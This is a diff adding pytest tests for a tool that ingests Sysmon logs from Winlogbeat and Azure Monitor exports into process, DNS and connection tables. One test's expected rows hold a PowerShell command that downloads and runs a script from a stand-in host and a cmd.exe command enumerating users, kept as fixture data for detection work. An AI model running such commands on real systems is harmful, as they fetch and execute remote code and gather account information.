@@ -46,6 +46,10 @@ def _counts(path: Path) -> dict[str, int]:
         pytest.param(_path(FLAT, "nxlog"), "sysmon.json", id="nxlog"),
         pytest.param(_path(FLAT, "splunk_export"), "sysmon.json", id="splunk"),
         pytest.param(_path(FLAT, "sentinel"), "sysmon.json", id="sentinel-array"),
+        pytest.param(_path(FLAT, "eventdata_xml"), "sysmon.json", id="event-table-xml"),
+        pytest.param(
+            _path(WLB, "winlogbeat_module"), "sysmon.winlogbeat", id="winlogbeat-module-array"
+        ),
         pytest.param(
             FIXTURES / "ecs" / "defend_windows" / "events.ndjson", "ecs.ndjson", id="ecs-not-sysmon"
         ),
@@ -218,6 +222,73 @@ def test_elastic_agent_reads_ecs_when_event_data_was_moved() -> None:
     ]
 
 
+def test_winlogbeat_sysmon_module_output() -> None:
+    # Winlogbeat's sysmon module (a JSON array, as its golden files): numeric event ids,
+    # most EventData moved to ECS and UtcTime dropped: it became @timestamp, which is then
+    # the process start of an EID 1.
+    path = _path(WLB, "winlogbeat_module")
+    s = load(path)
+    assert _counts(path) == {"process": 1, "connection": 1, "dns": 1, "file": 0}
+    assert rows(s, "SELECT label, count FROM ingest_skipped") == [{"label": "sysmon:5", "count": 1}]
+    assert s.count("ingest_issues") == 0
+    t_proc = dt.datetime(2026, 11, 4, 10, 15, 20, 512_000)
+    assert rows(
+        s,
+        "SELECT timestamp, process_start, event_code, event_id, host_name, user_name, "
+        "user_domain, process_entity_id, process_pid, process_parent_pid, process_hash_sha256, "
+        "process_integrity_level, log_record FROM process",
+    ) == [
+        {
+            "timestamp": t_proc,
+            "process_start": t_proc,
+            "event_code": "1",
+            "event_id": "90211",
+            "host_name": "LAB-WKS-03.lab.example",
+            "user_name": "bob",
+            "user_domain": "LAB",
+            "process_entity_id": "{7c1d2e3f-4a5b-6c7d-8e9f-0a1b2c3d4e5f}",
+            "process_pid": 7420,
+            "process_parent_pid": 3312,
+            "process_hash_sha256": "2" * 64,
+            "process_integrity_level": "Medium",
+            "log_record": 1,
+        }
+    ]
+    assert rows(
+        s,
+        "SELECT source_ip, source_port, destination_ip, destination_port, destination_domain, "
+        "destination_domain_origin, network_transport, network_direction FROM connection",
+    ) == [
+        {
+            "source_ip": "192.168.56.23",
+            "source_port": 51877,
+            "destination_ip": "203.0.113.40",
+            "destination_port": 443,
+            "destination_domain": "edge-203-0-113-40.cdn.example",
+            "destination_domain_origin": "reverse_dns",
+            "network_transport": "tcp",
+            "network_direction": "egress",
+        }
+    ]
+
+
+def test_winlogbeat_sysmon_module_dns_addresses_come_from_grouped_ip() -> None:
+    # The module has no dns.resolved_ip: the addresses are in dns.grouped.ip.
+    s = load(_path(WLB, "winlogbeat_module"))
+    (dns,) = rows(s, "SELECT * FROM dns")
+    assert (dns["timestamp"], dns["dns_question_name"], dns["dns_resolved_ip"]) == (
+        dt.datetime(2026, 11, 4, 10, 15, 21, 44_000),
+        "files-share.example",
+        ["203.0.113.40", "203.0.113.41"],
+    )
+    # winlog.user is the Sysmon service account (SYSTEM), not the process's user.
+    assert (dns["dns_response_code"], dns["user_name"], dns["process_pid"]) == (
+        "NOERROR",
+        None,
+        7420,
+    )
+
+
 def test_winlogbeat_missing_timestamp_is_located() -> None:
     s = load(_path(WLB, "missing_timestamp"))
     assert s.count("dns") == 1
@@ -278,6 +349,79 @@ def test_sentinel_array_export() -> None:
         }
     ]
     assert rows(s, "SELECT log_record FROM dns") == [{"log_record": 2}]
+
+
+def test_event_table_export_reads_the_eventdata_xml() -> None:
+    # Azure Monitor's Event table: EventData is the event's XML as text (here in its
+    # DataItem wrapper), with no flattened fields; record 1 has both (as in OTRF's exports).
+    path = _path(FLAT, "eventdata_xml")
+    s = load(path)
+    assert _counts(path) == {"process": 2, "connection": 1, "dns": 1, "file": 0}
+    assert rows(s, "SELECT label, count FROM ingest_skipped") == [
+        {"label": "sysmon:10", "count": 1}
+    ]
+    assert s.count("ingest_issues") == 0
+    pwsh = r"C:\Program Files\PowerShell\7\pwsh.exe"
+    guid = "{6a2b3c4d-5e6f-7a8b-9c0d-1e2f3a4b5c6d}"
+    assert rows(
+        s,
+        "SELECT log_record, timestamp, event_id, user_name, process_entity_id, process_pid, "
+        "process_executable, process_command_line, process_parent_entity_id, "
+        "process_hash_sha256 FROM process ORDER BY log_record",
+    ) == [
+        {
+            "log_record": 1,
+            "timestamp": dt.datetime(2026, 11, 5, 14, 2, 10, 331_000),
+            "event_id": "771001",
+            "user_name": "carol",
+            "process_entity_id": guid,
+            "process_pid": 5128,
+            "process_executable": pwsh,
+            "process_command_line": f'"{pwsh}" -nop -c "iwr https://drop.example.org/a.ps1 | iex"',
+            "process_parent_entity_id": "{6a2b3c4d-0000-7a8b-9c0d-000000000a00}",
+            "process_hash_sha256": "5" * 64,
+        },
+        {
+            # UtcTime from the XML, not TimeGenerated (14:02:16.477); entities unescaped.
+            "log_record": 4,
+            "timestamp": dt.datetime(2026, 11, 5, 14, 2, 12, 870_000),
+            "event_id": None,
+            "user_name": "carol",
+            "process_entity_id": "{6a2b3c4d-5e6f-7a8b-9c0d-000000000c00}",
+            "process_pid": 6044,
+            "process_executable": r"C:\Windows\System32\cmd.exe",
+            "process_command_line": 'cmd.exe /c "whoami & net user > %TEMP%\\u.txt"',
+            "process_parent_entity_id": guid,
+            "process_hash_sha256": "7" * 64,
+        },
+    ]
+    assert rows(
+        s,
+        "SELECT timestamp, process_entity_id, dns_question_name, dns_resolved_ip, "
+        "dns_response_code FROM dns",
+    ) == [
+        {
+            "timestamp": dt.datetime(2026, 11, 5, 14, 2, 11, 15_000),
+            "process_entity_id": guid,
+            "dns_question_name": "drop.example.org",
+            "dns_resolved_ip": ["198.51.100.7"],
+            "dns_response_code": "NOERROR",
+        }
+    ]
+    # An empty <Data Name="DestinationHostname" /> is NULL.
+    assert rows(
+        s,
+        "SELECT source_ip, destination_ip, destination_port, destination_domain, "
+        "network_direction FROM connection",
+    ) == [
+        {
+            "source_ip": "10.60.0.11",
+            "destination_ip": "198.51.100.7",
+            "destination_port": 443,
+            "destination_domain": None,
+            "network_direction": "egress",
+        }
+    ]
 
 
 @pytest.mark.parametrize(
